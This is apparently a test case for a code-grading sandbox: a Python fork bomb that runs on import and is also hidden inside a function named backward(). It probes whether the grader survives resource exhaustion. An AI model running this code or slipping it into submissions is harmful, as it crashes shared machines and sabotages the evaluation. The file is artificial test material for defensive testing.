# class: floods
# honest: poor
# probe: resources
# expect: score <= honest; status graded, crashed, timeout, memory
# in kernel: takes the machine down

# %% [markdown]
# Fork until nothing forks any more, each child forking on, in a test once more. Without a limit on processes the machine
# cannot be logged in to.

# %%
import os
import time


def bomb():
    for _ in range(1000):
        try:
            if os.fork() == 0:
                deadline = time.time() + 30
                while time.time() < deadline:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.2)
                os._exit(0)
        except OSError:
            time.sleep(0.002)


def backward(params, x, y_hat, hidden, t, reg):
    bomb()
    return params


bomb()
